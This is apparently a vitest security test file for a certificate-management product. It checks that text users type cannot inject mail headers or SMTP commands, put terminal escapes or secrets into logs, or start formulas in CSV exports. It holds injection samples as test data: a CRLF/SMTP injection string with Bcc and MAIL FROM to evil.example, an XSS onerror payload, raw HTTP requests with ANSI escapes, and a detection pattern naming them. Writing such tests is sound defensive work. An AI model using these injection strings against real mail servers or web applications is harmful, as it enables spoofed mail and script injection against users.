// Text that means something to a mail server, a terminal, a spreadsheet or a reader of logs, put wherever people may type, and then read where it
// ends up: the bytes that a mail server gets, the log of the server, the exports. The product runs as people start it.

import { createServer, connect, type Server } from 'node:net'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { certificates } from '#areas/certificates/contract.ts'
import { mail } from '#areas/mail/contract.ts'
import { sessions } from '#areas/sessions/contract.ts'
import { templates } from '#areas/templates/contract.ts'
import { templatePresets } from '#areas/templates/presets.ts'
import { users } from '#areas/users/contract.ts'
import { CallRefused } from '#core/testing/caller.ts'
import { payloads } from './bad-input/asking.ts'
import { invite, setUp, type Person } from './support/people.ts'
import { startProduct, type Product } from './support/product.ts'

/** What was sent in one SMTP transaction, byte for byte, and as it came over the wire. */
type Message = { from: string; to: string[]; data: string; wire: string }

/** A mail server that takes everything (RFC 5321) and undoes nothing but the doubled dots. */
function openSink(): Promise<{ server: Server; port: number; messages: Message[] }> {
  const messages: Message[] = []
  const server = createServer((socket) => {
    let held = ''
    let message: Message = { from: '', to: [], data: '', wire: '' }
    let inData = false
    socket.write('220 sink\r\n')
    socket.on('error', () => undefined)
    socket.on('data', (part) => {
      held += part.toString('latin1')
      for (;;) {
        const end = held.indexOf(inData ? '\r\n.\r\n' : '\r\n')
        if (end < 0) return
        const text = held.slice(0, end)
        held = held.slice(end + (inData ? 5 : 2))
        if (inData) {
          messages.push({ ...message, data: text.replaceAll(/^\.\./gm, '.'), wire: text })
          message = { from: '', to: [], data: '', wire: '' }
          inData = false
        } else if (/^MAIL FROM:/i.test(text)) message.from = text
        else if (/^RCPT TO:/i.test(text)) message.to.push(text)
        else if (/^DATA$/i.test(text)) inData = true
        socket.write(inData ? '354 go on\r\n' : '250 well\r\n')
      }
    })
  })
  return new Promise((resolve) => {
    server.listen(0, '127.0.0.1', () => {
      const address = server.address()
      resolve({ server, port: typeof address === 'object' && address !== null ? address.port : 0, messages })
    })
  })
}

const plain = payloads.filter((one) => one.plain)
const said = `thanks\r\nBcc: all@evil.example\r\n\r\n.\r\nMAIL FROM:<x@evil.example>\r\n<img src=x onerror=alert(1)>`
const wrongPassword = 'wrong-password-7f3a9c'

let product: Product
let sink: Awaited<ReturnType<typeof openSink>>
let ada: Person
let bob: Person
const links: string[] = []

beforeAll(async () => {
  sink = await openSink()
  product = await startProduct({ CHANCERY_SMTP_URL: `smtp://127.0.0.1:${sink.port}?ignoreTLS=true`, CHANCERY_LOG: 'debug' })
  const set = await setUp(product, 'ada', { organisation: 'Northwind', rootName: 'Northwind Root', issuingName: 'Northwind Issuing' })
  ada = set.administrator
  bob = await invite(product, ada, 'bob', 'Administrator')
  const { says: _, ...preset } = templatePresets.find(({ class: of }) => of === 'USER') ?? templatePresets[0] ?? { says: '' }
  const { templateId } = await ada.call(templates.calls.add, {
    ...preset,
    templateName: 'Inert',
    caId: set.answer.authorities.at(-1)?.caId ?? '',
    class: 'USER',
    issueApprovers: 1,
    extensions: {
      certificateSubjects: [{ subjectField: 'CN', fieldValue: 'CommonName' }],
      certificateSans: [{ sanField: 'RFC822', fieldValue: 'Email' }],
      validityPeriod: 1,
      validityPeriodUnits: 'YEARS',
      renewalMode: 'MANUAL',
      ignoreCsrDetails: true,
      keyUsages: ['digitalSignature'],
      extendedUsages: ['clientAuth'],
    },
    rules: { keys: ['P-256'], allowedDomains: [], wildcards: false, maximumNames: 5 },
  })
  for (const [at, { text }] of plain.entries()) {
    const person = await ada.call(users.calls.add, {
      username: `person${at}`,
      givenName: 'P',
      familyName: text,
      emailAddress: `person${at}@example.org`,
      title: text,
      locality: text,
      roleIds: [],
    })
    links.push(person.activationLink)
    const asked = await ada.call(certificates.calls.requestForUser, { templateId, userId: person.id, friendlyName: text, comment: said })
    const { round } = await bob.call(certificates.calls.approval, { requestId: asked.requestId })
    await bob.call(certificates.calls.decide, { requestId: asked.requestId, round, verdict: 'deny', comment: said })
  }
})
afterAll(async () => {
  await product.stop()
  sink.server.close()
})

/** The header fields of a mail, unfolded, and its body. */
function readMessage({ data }: Message): { fields: [name: string, value: string][]; body: string } {
  const at = data.indexOf('\r\n\r\n')
  const fields = data
    .slice(0, at)
    .replaceAll(/\r\n[ \t]+/g, ' ')
    .split('\r\n')
  return {
    fields: fields.map((field) => [field.slice(0, field.indexOf(':')).toLowerCase(), field.slice(field.indexOf(':') + 1).trim()]),
    body: data.slice(at + 4),
  }
}

/** The subject out of its encoded words (RFC 2047). */
function subjectOf(message: Message): string {
  const [, text = ''] = readMessage(message).fields.find(([name]) => name === 'subject') ?? []
  return text
    .replaceAll(/\?=\s+=\?/g, '?==?')
    .replaceAll(/=\?UTF-8\?([BQ])\?([^?]*)\?=/gi, (_, form: string, coded: string) =>
      form.toUpperCase() === 'B' ? Buffer.from(coded, 'base64').toString() : coded.replaceAll('_', ' '),
    )
}

describe('in mail', () => {
  test('every letter goes to one person here and to nobody that a text names', async () => {
    // An invitation, a question to the approver, and what became of it; and the invitation of the approver.
    await expect.poll(() => sink.messages.length, { timeout: 120_000, interval: 200 }).toBe(plain.length * 3 + 1)
    expect(sink.messages.every(({ to }) => to.length === 1 && /<(ada|bob|person\d+)@example\.org>/.test(to[0] ?? ''))).toBe(true)
    expect(sink.messages.filter(({ from, to }) => /evil/.test(`${from} ${to.join(' ')}`))).toEqual([])
  })

  test('no text begins a header field, and none is a second part or markup', () => {
    const known = [
      'auto-submitted',
      'content-transfer-encoding',
      'content-type',
      'date',
      'from',
      'message-id',
      'mime-version',
      'subject',
      'to',
    ]
    for (const message of sink.messages) {
      const { fields } = readMessage(message)
      expect(fields.map(([name]) => name).toSorted()).toEqual(known)
      expect(fields.find(([name]) => name === 'auto-submitted')?.[1]).toBe('auto-generated')
      expect(fields.find(([name]) => name === 'content-type')?.[1]).toMatch(/^text\/plain; charset=utf-8$/)
    }
  })

  test('the bytes hold no control character, and every dot that begins a line is doubled', () => {
    for (const { data, wire } of sink.messages) {
      // oxlint-disable-next-line no-control-regex
      expect(data.replaceAll('\r\n', '')).not.toMatch(/[\u0000-\u0008\u000a-\u001f\u007f]/)
      // Whatever ends the line before: there are servers that end a mail at a dot between bare line feeds.
      expect(wire.split(/\r\n|[\r\n]/).filter((line) => /^\.(?!\.)/.test(line))).toEqual([])
    }
    expect(sink.messages.some(({ wire }) => /^\.\./m.test(wire))).toBe(true)
  })

  test('what approvers wrote comes whole, as text, and so it stands in the outbox', async () => {
    const denied = sink.messages.filter((message) => subjectOf(message).startsWith('Request denied'))
    expect(denied.length).toBe(plain.length)
    expect(denied.every((message) => readMessage(message).body.includes('Bcc: all@evil.example'))).toBe(true)
    const { rows } = await ada.call(mail.calls.outbox, { size: 100 })
    expect(rows.filter(({ status }) => status === 'failed')).toEqual([])
    // oxlint-disable-next-line no-control-regex
    expect(rows.filter(({ subject, to }) => /[\u0000-\u001f\u007f]/.test(subject + to))).toEqual([])
  })
})

describe('in one-line fields', () => {
  test.each(payloads.filter((one) => !one.plain))('$name is refused by its field', async ({ text }) => {
    const add = (change: Partial<Parameters<typeof draftOf>[0]>) =>
      ada.call(users.calls.add, draftOf(change)).then(
        () => undefined,
        (error: unknown) =>
          error instanceof CallRefused ? { status: error.status, fields: error.fields.map(({ field }) => field) } : error,
      )
    expect(await add({ familyName: `a${text}b` })).toEqual({ status: 400, fields: ['familyName'] })
    expect(await add({ emailAddress: `a${text}@example.org` })).toEqual({ status: 400, fields: ['emailAddress'] })
  })
})

const draftOf = (change: { familyName?: string; emailAddress?: string }) => ({
  username: 'nobody',
  givenName: 'N',
  familyName: 'N',
  emailAddress: 'n@example.org',
  ...change,
})

describe('in the log', () => {
  beforeAll(async () => {
    for (const { text } of payloads) {
      await ada.call(sessions.calls.login, { username: text.slice(0, 100), password: wrongPassword }).catch(() => undefined)
      await ada.fetch(`/api2/PKI-v1/CertificatesExport?text=${encodeURIComponent(text)}`).then((response) => response.text())
      await ada
        .fetch(`/${encodeURIComponent(text)}`, { headers: { 'user-agent': `x ${encodeURIComponent(text)}` } })
        .then((response) => response.text())
    }
    await raw(`GET /\u001b[2J HTTP/1.1\r\nHost: x\r\nUser-Agent: \u001b[31m\r\n\r\n`)
    await raw(`BREW / HTTP/1.1\r\nHost: x\r\nX-Request-Id: a\u001b[31m\r\n\r\n`)
  })
  const lines = () =>
    product
      .printed()
      .split('\n')
      .filter((line) => line.startsWith('{'))

  test('every line is one whole record', () => {
    expect(lines().length).toBeGreaterThan(50)
    for (const line of lines())
      expect(JSON.parse(line)).toMatchObject({ level: expect.stringMatching(/^(debug|info|warn|error)$/), time: expect.any(String) })
    expect(lines().filter((line) => line.startsWith('{"level":"error"}'))).toEqual([])
  })

  test('no control character comes to the terminal', () => {
    // oxlint-disable-next-line no-control-regex
    expect(product.printed()).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/)
  })

  test('no password, no session, no link and no token stands in it', () => {
    const log = lines().join('\n')
    const secrets = [
      ada.password,
      bob.password,
      wrongPassword,
      ...ada.cookies.values(),
      ...bob.cookies.values(),
      ...links.map((link) => new URL(link).pathname.split('/').at(-1) ?? ''),
    ].filter((secret) => secret.length > 8)
    expect(secrets.length).toBeGreaterThan(10)
    expect(secrets.filter((secret) => log.includes(secret))).toEqual([])
  })

  test('no name, no address and nothing that somebody typed stands in it', () => {
    const log = lines().join('\n')
    expect(log).not.toMatch(/@example\.org|Ada|Bob|onerror|HYPERLINK|drop table|evil\.example/)
  })
})

describe('in the exports', () => {
  test('no cell of the audit log begins a formula', async () => {
    const text = await (await ada.fetch('/api2/Monitoring-v1/ExportAuditEvents')).text()
    expect(text.split('\r\n').length).toBeGreaterThan(plain.length)
    expect(text).not.toMatch(/(^|,|\r\n)"?[=+@\t]/)
  })
})

/** A request byte by byte, since no client sends these. */
const raw = (bytes: string): Promise<void> =>
  new Promise((resolve) => {
    const socket = connect(Number(new URL(product.origin).port), '127.0.0.1', () => socket.end(bytes, 'latin1'))
    socket.on('error', () => resolve())
    socket.on('close', () => resolve())
    socket.resume()
  })
